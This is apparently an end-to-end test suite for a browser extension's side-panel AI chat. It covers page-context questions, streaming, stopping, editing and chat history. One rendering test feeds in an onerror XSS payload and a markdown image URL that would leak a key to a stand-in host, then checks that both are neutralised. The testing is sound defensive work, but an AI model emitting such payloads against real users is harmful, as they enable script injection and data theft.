import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { text } from '../support/openai-server';
import { ask, lastPrompt, newChat, type Session, startSession } from './support/session';

/** The core Copilot flow: a real page, the real side panel, a streamed answer. */
describe('side panel chat about the current page', () => {
  let s: Session;
  beforeAll(async () => {
    s = await startSession();
  });
  afterAll(() => s?.close());
  beforeEach(() => newChat(s.panel));

  it('streams an answer about a served article and sends the article text with the question', async () => {
    await s.show(s.pages.corpusUrl('wikipedia'));
    await expect.poll(() => s.panel.getByTestId('context-bar').innerText()).toContain('Mozilla');
    await expect.poll(() => s.panel.getByTestId('context-status').innerText()).toMatch(/tokens/);

    s.llm.enqueue(text('Mozilla is a **free software** community founded in 1998.', { chunkSize: 5, delayMs: 10 }));
    await ask(s.panel, 'What is this page about?');

    const answer = s.panel.getByTestId('assistant-message').last();
    await expect.poll(() => answer.locator('strong').innerText()).toBe('free software');
    await expect.poll(() => answer.getAttribute('data-status')).toBe('complete');
    await expect.poll(() => answer.innerText()).toContain('founded in 1998');

    const request = s.llm.requests.at(-1);
    const body = request?.body as { stream: boolean; model: string; messages: { role: string; content: string }[] };
    expect(body.stream).toBe(true);
    expect(body.model).toBe('test-model');
    const question = body.messages.at(-1);
    expect(question?.role).toBe('user');
    // The article body, captured by Readability, went with the question, marked as untrusted data.
    expect(question?.content).toContain('UNTRUSTED_CONTENT');
    expect(question?.content).toContain('Mozilla Foundation');
    expect(question?.content).toMatch(/What is this page about\?$/);
    // The question and its page are kept with the conversation.
    await expect.poll(() => s.panel.getByTestId('user-message').last().innerText()).toContain('Mozilla');
  });

  it('starts a chat from a suggested prompt', async () => {
    await s.show(s.pages.corpusUrl('wikipedia'));
    const suggestions = s.panel.getByTestId('suggestions');
    // An English page is offered a translation into Chinese.
    await expect.poll(() => suggestions.innerText()).toContain('into Chinese');
    s.llm.enqueue(text('Key points: …'));
    await suggestions.getByRole('button', { name: 'List the key points' }).click();
    await expect.poll(() => s.panel.getByTestId('assistant-message').last().innerText()).toContain('Key points');
    expect(lastPrompt(s.llm)).toMatch(/List the key points$/);
  });

  it('leaves the page out when the user turns context off', async () => {
    await s.show(s.pages.corpusUrl('wikipedia'));
    await s.panel.getByRole('checkbox').uncheck();
    s.llm.enqueue(text('General answer.'));
    await ask(s.panel, 'Hello?');
    await expect.poll(() => s.panel.getByTestId('assistant-message').last().innerText()).toContain('General answer.');
    const body = s.llm.requests.at(-1)?.body as { messages: { content: string }[] };
    expect(JSON.stringify(body.messages)).not.toContain('UNTRUSTED_CONTENT');
    await s.panel.getByRole('checkbox').check();
  });

  it('shows reasoning_content in a collapsible thinking block', async () => {
    await s.show(s.pages.corpusUrl('wikipedia'));
    s.llm.enqueue(text('The answer is 42.', { reasoning: 'First, consider the question carefully.' }));
    await ask(s.panel, 'Think first, then answer.');
    const answer = s.panel.getByTestId('assistant-message').last();
    await expect.poll(() => answer.innerText()).toContain('The answer is 42.');
    const thinking = answer.getByTestId('thinking');
    expect(await thinking.evaluate((node) => (node as HTMLDetailsElement).open)).toBe(false);
    await thinking.locator('summary').click();
    await expect.poll(() => thinking.innerText()).toContain('consider the question carefully');
  });

  it('renders model output without raw HTML or remote images, and links open in a new tab', async () => {
    await s.show(s.pages.corpusUrl('wikipedia'));
    const docs = s.pages.fixtureUrl('empty.html');
    s.llm.enqueue(
      text(
        [
          'Look: <img src="http://127.0.0.1:9/track.png" onerror="document.title=\'pwned\'"> done',
          '',
          '![secret](http://127.0.0.1:9/leak?d=KEY)',
          '',
          `[docs](${docs})`,
          '',
          '| a | b |',
          '|---|---|',
          '| 1 | 2 |',
          '',
          '```ts',
          'const x: number = 1;',
          '```',
        ].join('\n'),
      ),
    );
    await ask(s.panel, 'Show me markdown');
    const answer = s.panel.getByTestId('assistant-message').last();
    await expect.poll(() => answer.getAttribute('data-status')).toBe('complete');
    expect(await answer.locator('img').count()).toBe(0);
    expect(await answer.innerText()).toContain('<img src=');
    expect(await s.panel.title()).not.toBe('pwned');
    const image = answer.locator('.blocked-image');
    expect(await image.getAttribute('data-href')).toBe('http://127.0.0.1:9/leak?d=KEY');
    // No href anywhere: the browser cannot resolve or preconnect to a link's host before a click.
    expect(await answer.locator('[href]').count()).toBe(0);
    const opened = s.aside.context.waitForEvent('page');
    await answer.getByRole('link', { name: 'docs' }).click();
    const tab = await opened;
    await tab.waitForLoadState();
    expect(tab.url()).toBe(docs);
    expect(await tab.evaluate('window.opener === null')).toBe(true);
    await tab.close();
    expect(await answer.locator('table td').allInnerTexts()).toEqual(['1', '2']);
    expect(await answer.locator('pre code.hljs').innerText()).toContain('const x: number = 1;');
    expect(await answer.getByRole('button', { name: 'Copy code' }).count()).toBe(1);
  });

  it('stops a streaming answer and keeps what arrived', async () => {
    await s.show(s.pages.corpusUrl('wikipedia'));
    s.llm.enqueue(text('word '.repeat(400), { chunkSize: 5, delayMs: 20 }));
    await ask(s.panel, 'Write a lot');
    const answer = s.panel.getByTestId('assistant-message').last();
    await expect.poll(() => answer.innerText()).toContain('word word');
    await s.panel.getByRole('button', { name: 'Stop' }).click();
    await expect.poll(() => answer.getAttribute('data-status')).toBe('stopped');
    await expect.poll(() => answer.innerText()).toContain('Stopped');
    expect((await answer.innerText()).length).toBeLessThan('word '.repeat(400).length);
  });

  it('regenerates the last answer and edits a question to resend it', async () => {
    await s.show(s.pages.corpusUrl('wikipedia'));
    s.llm.enqueue(text('First answer.'));
    await ask(s.panel, 'Original question');
    const answers = s.panel.getByTestId('assistant-message');
    await expect.poll(() => answers.last().innerText()).toContain('First answer.');

    s.llm.enqueue(text('Second answer.'));
    await s.panel.getByRole('button', { name: 'Regenerate' }).click();
    await expect.poll(() => answers.last().innerText()).toContain('Second answer.');
    expect(await answers.count()).toBe(1);

    s.llm.enqueue(text('Answer to the edited question.'));
    await s.panel.getByTestId('user-message').getByRole('button', { name: 'Edit' }).click();
    await s.panel.getByRole('textbox', { name: 'Edit' }).fill('Edited question');
    await s.panel.getByRole('button', { name: 'Save & resend' }).click();
    await expect.poll(() => answers.last().innerText()).toContain('Answer to the edited question.');
    expect(await s.panel.getByTestId('user-message').count()).toBe(1);
    const sent = s.llm.requests.at(-1)?.body as { messages: { content: string }[] };
    expect(sent.messages.at(-1)?.content).toMatch(/Edited question$/);
  });

  it('keeps conversations: search, rename, reopen and delete', async () => {
    await s.show(s.pages.corpusUrl('wikipedia'));
    s.llm.enqueue(text('Pandas eat bamboo.'));
    await ask(s.panel, 'Tell me about pandas');
    await expect.poll(() => s.panel.getByTestId('assistant-message').last().innerText()).toContain('bamboo');
    await newChat(s.panel);

    await s.panel.getByRole('button', { name: /Chats/ }).click();
    await s.panel.getByRole('searchbox').fill('bamboo');
    const items = s.panel.getByTestId('conversation-item');
    await expect.poll(() => items.count()).toBe(1);
    await items.getByRole('button', { name: 'Rename' }).click();
    await s.panel.getByRole('textbox', { name: 'Rename' }).fill('Panda facts');
    await s.panel.getByRole('button', { name: 'Save' }).click();
    await expect.poll(() => items.first().innerText()).toContain('Panda facts');

    await items.getByRole('button', { name: 'Panda facts' }).click();
    await expect.poll(() => s.panel.getByTestId('assistant-message').last().innerText()).toContain('bamboo');

    await s.panel.getByRole('button', { name: /Chats/ }).click();
    await s.panel.getByRole('searchbox').fill('Panda facts');
    await expect.poll(() => items.count()).toBe(1);
    await items.getByRole('button', { name: 'Delete' }).click();
    await expect.poll(() => items.count()).toBe(0);
  });
});
